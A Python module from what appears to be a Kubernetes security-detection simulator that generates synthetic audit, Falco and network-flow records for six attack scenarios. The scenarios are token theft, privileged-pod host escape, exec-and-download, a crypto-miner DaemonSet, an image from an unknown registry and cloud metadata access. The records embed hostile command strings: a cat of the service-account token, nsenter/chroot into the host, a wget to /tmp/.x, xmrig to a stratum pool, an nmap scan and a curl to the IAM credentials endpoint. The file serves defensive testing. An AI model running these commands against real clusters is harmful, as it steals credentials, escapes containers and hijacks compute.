"""Attacks that cross layers: API calls, processes (Falco, Tetragon) and network flows (Hubble)."""

from __future__ import annotations

from keelwatch.simulate import manifests
from keelwatch.simulate.audit_traffic import CONTROLLER_AGENT
from keelwatch.simulate.cluster import KUBECTL_AGENT, Pod, Workload, service_account
from keelwatch.simulate.records import falco_process_fields, rbac_reason
from keelwatch.simulate.runtime_records import WORLD
from keelwatch.simulate.scenarios import Stage, scenario

ADMIN_REASON = rbac_reason("platform-admins", "cluster-admin", 'Group "platform-admins"')
TOKEN_PATH = "/var/run/secrets/kubernetes.io/serviceaccount/token"  # noqa: S105 - a path
SHELL_TAGS = ["T1059", "container", "maturity_stable", "mitre_execution", "shell"]


def _controller(stage: Stage, name: str) -> dict[str, object]:
    identity = service_account("kube-system", name, stage.ids)
    agent = CONTROLLER_AGENT.format(name)
    return dict(
        user=identity,
        source_ip="10.0.0.10",
        user_agent=agent,
        reason=rbac_reason(
            f"system:controller:{name}",
            f"system:controller:{name}",
            f'ServiceAccount "{name}/kube-system"',
        ),
    )


def _egress(
    stage: Stage, seconds: float, pod: Pod, ip: str, port: int, names: list[str] | None = None
) -> None:
    stage.flow(
        seconds,
        node=pod.node,
        source=pod,
        destination=WORLD,
        source_ip=pod.ip,
        destination_ip=ip,
        source_port=stage.port(),
        destination_port=port,
        destination_names=names,
    )


@scenario(
    "sa-token-theft",
    "Service-account token read in a pod and used from outside",
    ("T1528", "T1552.007", "T1078"),
    ("runtime", "network", "audit"),
)
def token_theft(stage: Stage) -> None:
    """Through an RCE in a web app the token file is read and sent out; the token is then used
    against the API server from a public address (same pod-bound credential)."""
    pod = stage.pod("http")
    ip = stage.public_ip()
    stage.exec(
        0,
        pod,
        binary="/bin/cat",
        arguments=TOKEN_PATH,
        parent_binary="/bin/sh",
        parent_arguments=f'-c "cat {TOKEN_PATH}"',
        uid=1000,
        cwd="/app",
    )
    _egress(stage, 1.2, pod, ip, 443)
    identity = pod.sa_identity(stage.ids)
    requests = (
        ("create", "selfsubjectrulesreviews", None, "authorization.k8s.io", 201),
        ("list", "secrets", pod.namespace, "", 200),
        ("list", "pods", None, "", 403),
        ("get", "configmaps", pod.namespace, "", 200),
    )
    for step, (verb, resource, namespace, group, code) in enumerate(requests):
        stage.audit(
            120 + step * 4,
            verb=verb,
            user=identity,
            source_ip=ip,
            user_agent="python-requests/2.31.0",
            resource=resource,
            namespace=namespace,
            group=group,
            code=code,
            name="app-config" if verb == "get" else None,
            reason=rbac_reason(
                f"{pod.workload}-reader",
                "view",
                f'ServiceAccount "{pod.service_account}/{pod.namespace}"',
                cluster=False,
            ),
        )


@scenario(
    "privileged-pod-host-escape",
    "Privileged pod with the host filesystem, then nsenter/chroot",
    ("T1611", "T1610"),
    ("audit", "runtime"),
)
def host_escape(stage: Stage) -> None:
    """A privileged, hostPID pod mounting / is created; its shell enters the host's namespaces."""
    human = stage.developer()
    namespace = stage.app().namespace
    tools = Workload(
        "debug-tools", namespace, "Pod", "debug", "docker.io/library/alpine:3.20", 0, "default"
    )
    pod = stage.new_pod(tools, name=f"debug-tools-{stage.ids.suffix(5)}")
    volumes = [("host-root", "/", "/host")]
    container = manifests.container(
        "debug",
        tools.image,
        command=["sleep", "infinity"],
        privileged=True,
        mounts=volumes,
        hardened=False,
    )
    body = manifests.pod(
        pod.name,
        namespace,
        manifests.pod_spec(
            [container], host_pid=True, host_network=True, volumes=volumes, restart="Never"
        ),
    )
    stage.audit(
        0,
        verb="create",
        user=human.identity,
        source_ip=human.source_ip,
        user_agent=KUBECTL_AGENT,
        resource="pods",
        namespace=namespace,
        code=201,
        request_object=body,
        reason=rbac_reason("developers-edit", "edit", 'Group "developers"', cluster=False),
    )
    fields = falco_process_fields(
        pod, command="sleep infinity", exe="/bin/sleep", parent="containerd-shim", pid=1
    )
    fields["container.privileged"] = True
    stage.falco(
        6,
        rule="Launch Privileged Container",
        priority="Info",
        text="Privileged container started",
        fields=fields,
        tags=["T1610", "cis", "container", "maturity_incubating", "mitre_execution"],
        hostname=pod.node.name,
    )
    stage.audit(
        20,
        verb="create",
        user=human.identity,
        source_ip=human.source_ip,
        user_agent=KUBECTL_AGENT,
        resource="pods",
        namespace=namespace,
        name=pod.name,
        subresource="exec",
        code=101,
        query="command=sh&container=debug&stdin=true&stdout=true&tty=true",
        reason=rbac_reason("developers-edit", "edit", 'Group "developers"', cluster=False),
    )
    stage.exec(21, pod, binary="/bin/sh", arguments="", parent_binary="/usr/bin/runc")
    stage.exec(
        30,
        pod,
        binary="/usr/bin/nsenter",
        arguments="-t 1 -m -u -i -n -p -- bash",
        parent_binary="/bin/sh",
    )
    stage.exec(
        41, pod, binary="/usr/sbin/chroot", arguments="/host /bin/bash", parent_binary="/bin/sh"
    )


@scenario(
    "exec-shell-egress",
    "Exec into a pod, interactive shell, egress to a new destination",
    ("T1609", "T1059.004", "T1041"),
    ("audit", "runtime", "network"),
)
def exec_shell_egress(stage: Stage) -> None:
    """kubectl exec with a TTY, a shell in the container, then a download from an unseen IP."""
    human = stage.developer()
    pod = stage.pod("http")
    ip = stage.public_ip()
    stage.audit(
        0,
        verb="create",
        user=human.identity,
        source_ip=human.source_ip,
        user_agent=KUBECTL_AGENT,
        resource="pods",
        namespace=pod.namespace,
        name=pod.name,
        subresource="exec",
        code=101,
        query=f"command=%2Fbin%2Fbash&container={pod.container}&stdin=true&stdout=true&tty=true",
        reason=rbac_reason("developers-edit", "edit", 'Group "developers"', cluster=False),
    )
    fields = falco_process_fields(
        pod, command="bash", exe="/bin/bash", parent="runc", pid=stage.rng.randrange(100, 9000)
    )
    fields["proc.tty"] = 34816
    stage.falco(
        1,
        rule="Terminal shell in container",
        priority="Notice",
        text="A shell was spawned in a container with an attached terminal",
        fields=fields,
        tags=SHELL_TAGS,
        hostname=pod.node.name,
    )
    stage.exec(1, pod, binary="/bin/bash", arguments="", parent_binary="/usr/bin/runc")
    stage.exec(
        25,
        pod,
        binary="/usr/bin/wget",
        arguments=f"-qO /tmp/.x http://{ip}:8000/x",
        parent_binary="/bin/bash",
    )
    _egress(stage, 25.3, pod, ip, 8000)


@scenario(
    "cryptominer-daemonset",
    "Crypto-miner DaemonSet with pool traffic",
    ("T1496", "T1610", "T1204.003"),
    ("audit", "runtime", "network"),
)
def cryptominer(stage: Stage) -> None:
    """A DaemonSet runs xmrig on every node; the miners connect to a pool's stratum port."""
    human = stage.admin()
    ip = stage.public_ip()
    image = "docker.io/xmrig/xmrig:6.21.0"
    args = ["-o", f"stratum+tcp://{ip}:3333", "-u", "44AFFq5kSiGBoZ", "--donate-level", "1"]
    spec = manifests.pod_spec(
        [manifests.container("node-agent", image, command=["xmrig", *args], hardened=False)]
    )
    body = manifests.workload("DaemonSet", "node-agent", "kube-system", spec)
    stage.audit(
        0,
        verb="create",
        user=human.identity,
        source_ip=stage.public_ip(),
        user_agent=KUBECTL_AGENT,
        resource="daemonsets",
        namespace="kube-system",
        group="apps",
        code=201,
        request_object=body,
        reason=ADMIN_REASON,
    )
    miner = Workload("node-agent", "kube-system", "DaemonSet", "miner", image, 0, "default")
    for number, node in enumerate(stage.cluster.workers[:3]):
        pod = stage.new_pod(miner, node)
        at = 8 + number * 3
        pod_body = manifests.pod(
            None, "kube-system", spec, {"app": "node-agent"}, generate_name="node-agent-"
        )
        stage.audit(
            at - 4,
            verb="create",
            resource="pods",
            namespace="kube-system",
            code=201,
            request_object=pod_body,
            **_controller(stage, "daemon-set-controller"),
        )
        started = stage.exec(
            at,
            pod,
            binary="/xmrig/xmrig",
            arguments=" ".join(args),
            parent_binary="/usr/bin/containerd-shim-runc-v2",
        )
        stage.connect(at + 0.5, started, source=(pod.ip, stage.port()), destination=(ip, 3333))
        _egress(stage, at + 0.6, pod, ip, 3333, ["pool.minexmr.example"])
        fields = falco_process_fields(
            pod,
            command=f"xmrig {' '.join(args)}",
            exe="/xmrig/xmrig",
            parent="containerd-shim",
            pid=1,
        )
        fields.update(
            {
                "evt.type": "connect",
                "fd.sip": ip,
                "fd.sport": 3333,
                "fd.l4proto": "tcp",
                "fd.type": "ipv4",
            }
        )
        stage.falco(
            at + 1,
            rule="Detect crypto miners using the Stratum protocol",
            priority="Critical",
            text="Possible miner running",
            fields=fields,
            tags=["T1496", "maturity_stable", "mitre_impact", "process"],
            hostname=node.name,
        )


@scenario(
    "unknown-registry-image",
    "Pod from an unknown registry running a tool",
    ("T1610", "T1204.003"),
    ("audit", "runtime"),
)
def unknown_registry(stage: Stage) -> None:
    """A deployer creates a pod whose image comes from a registry the cluster never pulls from."""
    identity = stage.cluster.ci_deployer
    namespace = stage.app().namespace
    image = "ghcr.io/x0rg/netshoot-plus:latest"
    tools = Workload("netcheck", namespace, "Pod", "debug", image, 0, "default")
    pod = stage.new_pod(tools, name=f"netcheck-{stage.ids.suffix(5)}")
    spec = manifests.pod_spec(
        [manifests.container("netcheck", image, command=["/bin/sh", "-c", "sleep 3600"])]
    )
    stage.audit(
        0,
        verb="create",
        user=identity,
        source_ip="10.30.4.17",
        user_agent=KUBECTL_AGENT,
        resource="pods",
        namespace=namespace,
        code=201,
        request_object=manifests.pod(pod.name, namespace, spec),
        reason=rbac_reason("ci-deployer", "edit", 'ServiceAccount "deployer/ci"', cluster=False),
    )
    stage.exec(
        12,
        pod,
        binary="/usr/bin/nmap",
        arguments=f"-sT -p 22,443,6443,10250 {pod.node.pod_prefix}0/24",
        parent_binary="/bin/sh",
    )


@scenario(
    "cloud-metadata-access",
    "Cloud instance metadata queried from a container",
    ("T1552.005",),
    ("runtime", "network"),
)
def metadata_access(stage: Stage) -> None:
    """A web pod asks the instance metadata service for the node role's credentials."""
    pod = stage.pod("http")
    url = "http://169.254.169.254/latest/meta-data/iam/security-credentials/"
    stage.exec(
        0,
        pod,
        binary="/usr/bin/curl",
        arguments=f"-s {url}",
        parent_binary="/bin/sh",
        parent_arguments=f'-c "curl -s {url}"',
        uid=1000,
        cwd="/app",
    )
    fields = falco_process_fields(
        pod,
        command=f"curl -s {url}",
        exe="/usr/bin/curl",
        parent="sh",
        pid=stage.rng.randrange(100, 9000),
        user="app",
        uid=1000,
    )
    fields.update(
        {
            "evt.type": "connect",
            "fd.sip": "169.254.169.254",
            "fd.sport": 80,
            "fd.type": "ipv4",
            "fd.l4proto": "tcp",
            "fd.cip": pod.ip,
        }
    )
    stage.falco(
        0.1,
        rule="Contact cloud metadata service from container",
        priority="Notice",
        text="Outbound connection to cloud instance metadata service",
        fields=fields,
        tags=["T1552.005", "container", "maturity_sandbox", "mitre_credential_access", "network"],
        hostname=pod.node.name,
    )
    stage.flow(
        0.1,
        node=pod.node,
        source=pod,
        destination=WORLD,
        source_ip=pod.ip,
        destination_ip="169.254.169.254",
        source_port=stage.port(),
        destination_port=80,
    )
